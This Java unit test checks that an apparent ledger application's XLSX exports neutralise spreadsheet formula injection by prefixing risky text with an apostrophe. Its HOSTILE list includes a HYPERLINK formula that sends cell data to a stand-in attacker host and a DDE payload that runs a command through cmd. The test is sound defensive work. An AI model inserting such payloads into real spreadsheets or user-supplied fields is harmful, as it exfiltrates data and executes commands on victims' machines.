package cn.studyledger.security;

import static org.assertj.core.api.Assertions.assertThat;

import cn.studyledger.common.xlsx.XlsxReader;
import cn.studyledger.common.xlsx.XlsxRow;
import cn.studyledger.office.SheetData;
import cn.studyledger.office.XlsxWriter;
import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.InputStream;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import org.dhatim.fastexcel.reader.CellType;
import org.dhatim.fastexcel.reader.ReadableWorkbook;
import org.dhatim.fastexcel.reader.Row;
import org.junit.jupiter.api.Test;
import org.springframework.util.unit.DataSize;

/**
 * Spreadsheet (CSV/formula) injection: text a user typed that begins with = + - @, a tab or a CR is exported with
 * a visible leading apostrophe, so no spreadsheet program evaluates it, even after the file is saved again as CSV;
 * numbers stay numbers; the imports read the text back without the apostrophe. Both ways of writing (the small
 * sheets and the streamed ledgers) go through the one {@link XlsxWriter}.
 */
class ExportedCellsCannotBeFormulasTests {

    static final List<String> HOSTILE = List.of(
            "=HYPERLINK(\"http://evil.example/?\"&A1,\"点此\")",
            "+1+cmd|' /C calc'!A0",
            "-2+3",
            "@SUM(1,2)",
            "\t=1+1",
            "\r=1+1");

    static final List<String> HEADER = List.of("文本", "数");

    @Test
    void textThatAProgramWouldEvaluateGetsAnApostropheAndNumbersStayNumbers() throws Exception {
        List<List<Object>> rows = new ArrayList<>();
        for (String text : HOSTILE) {
            rows.add(List.of(text, -5));
        }
        rows.add(List.of("普通文本 = 不变", 3.5));
        byte[] small = new XlsxWriter().write(List.of(new SheetData("表", HEADER, rows)));
        ByteArrayOutputStream streamed = new ByteArrayOutputStream();
        new XlsxWriter().write("表", HEADER, push -> rows.forEach(push), streamed);

        for (byte[] xlsx : List.of(small, streamed.toByteArray())) {
            List<Row> read = read(xlsx);
            for (int i = 0; i < HOSTILE.size(); i++) {
                Row row = read.get(i + 1);
                assertThat(row.getCell(0).getType()).isEqualTo(CellType.STRING);
                assertThat(row.getCell(0).getText()).isEqualTo("'" + HOSTILE.get(i));
                assertThat(row.getCell(1).getType()).isEqualTo(CellType.NUMBER);
                assertThat(row.getCell(1).asNumber()).isEqualByComparingTo("-5");
            }
            assertThat(read.get(HOSTILE.size() + 1).getCell(0).getText()).isEqualTo("普通文本 = 不变");
            assertThat(read.get(HOSTILE.size() + 1).getCell(1).getType()).isEqualTo(CellType.NUMBER);

            // read back by the imports' reader: the text as typed, without the apostrophe
            List<XlsxRow> imported = new XlsxReader(
                            5000,
                            100_000,
                            DataSize.ofMegabytes(50),
                            32767,
                            Duration.ofSeconds(10),
                            DataSize.ofMegabytes(20))
                    .firstSheet(new ByteArrayInputStream(xlsx), HEADER);
            assertThat(imported.get(1).text(0)).isEqualTo(HOSTILE.get(0));
            assertThat(imported.get(3).text(0)).isEqualTo("-2+3");
            assertThat(imported.get(5).text(0))
                    .as("trimmed as every import cell")
                    .isEqualTo("=1+1");
        }
    }

    private static List<Row> read(byte[] xlsx) throws Exception {
        try (InputStream in = new ByteArrayInputStream(xlsx);
                ReadableWorkbook workbook = new ReadableWorkbook(in)) {
            return workbook.getFirstSheet().read();
        }
    }
}
